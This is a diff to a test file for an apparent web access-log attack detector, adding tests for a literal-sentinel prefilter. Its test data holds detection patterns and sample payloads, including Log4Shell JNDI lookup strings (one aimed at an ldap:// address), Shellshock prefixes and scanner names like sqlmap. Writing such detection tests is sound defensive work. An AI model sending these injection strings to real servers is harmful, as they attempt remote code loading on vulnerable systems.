@@ -5,7 +5,7 @@
  */
 import { describe, expect, it } from 'vitest';
 import { compileRule, MatchView } from '../../../src/detect/rule.js';
-import { gateOf, Prefilter } from '../../../src/detect/prefilter.js';
+import { gateOf, Prefilter, sentinelsOf } from '../../../src/detect/prefilter.js';
 import { requiredLiterals } from '../../../src/detect/literals.js';
 import { PRESETS, PRESET_DEFINITIONS } from '../../../src/detect/presets.js';
 import { createLineParser } from '../../../src/parse/line-parser.js';
@@ -28,6 +28,15 @@ describe('requiredLiterals', () => {
   });
   it.each([String.raw`^[a-z]+$`, String.raw`.*`, String.raw`a|[0-9]`, String.raw`(?:abc)?`, String.raw`a*`])('%s needs none', (p) => {
     expect(requiredLiterals(p)).toBeNull();
+  });
+});
+
+describe('sentinelsOf', () => {
+  it('finds a few fold-invariant characters every literal holds, or none', () => {
+    expect(sentinelsOf(['${jndi:', '${lower:', '() { :', '(){:'])).toEqual(['{']);
+    expect(sentinelsOf(['sqlmap', 'nikto'])).toBeNull();
+    expect(sentinelsOf(['a;b', 'c<d', 'e|f', 'g`h'])).toBeNull(); // more than 3
+    expect(sentinelsOf([])).toBeNull();
   });
 });
 
@@ -85,6 +94,14 @@ describe('Prefilter', () => {
     expect(pf.pass({ ip: '198.18.0.1', family: 4, time: 0, method: 'GET', path: '/', status: 403 })).not.toBe(0);
   });
 
+  it('a header without the sentinel skips the scan; one with it is scanned', () => {
+    const r = compileRule('ua', { ...PRESETS.forbidden!, match: { status: null, paths: [], methods: [], userAgents: [String.raw`\$\{jndi:`] } });
+    const pf = new Prefilter([r]);
+    const at = (ua: string): boolean => pf.mayMatch(0, pf.pass({ ip: '198.18.0.1', family: 4, time: 0, method: 'GET', path: '/', status: 200, userAgent: ua } as AccessEvent));
+    expect(at('Mozilla/5.0 (X11)')).toBe(false);
+    expect(at('x ${JNDI:ldap://198.18.0.9/a}')).toBe(true);
+    expect(at('x {not it}')).toBe(false);
+  });
   it('a User-Agent or target with a character ≥ 128 passes every gate on it (RE2 folds some to ASCII)', () => {
     const r = compileRule('ua', { ...PRESETS.forbidden!, match: { status: null, paths: [], methods: [], userAgents: [String.raw`\bsqlmap\b`] } });
     const pf = new Prefilter([r]);
